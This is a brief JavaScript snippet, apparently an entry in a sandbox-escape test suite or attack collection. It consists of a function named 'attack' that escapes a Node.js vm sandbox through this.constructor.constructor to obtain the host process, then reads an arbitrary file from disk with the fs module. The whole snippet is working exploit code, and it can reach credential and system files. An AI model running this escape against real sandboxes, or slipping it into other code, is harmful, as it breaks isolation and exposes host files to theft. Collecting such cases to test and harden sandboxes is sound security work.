// The constructor of a constructor makes functions in the realm of whoever made the object.
// after: read
// source: vm: this.constructor.constructor
async function attack({ path }) {
  const process = this.constructor.constructor('return process')();
  return { text: await process.mainModule.require('fs').readFileSync(path, 'utf8') };
}
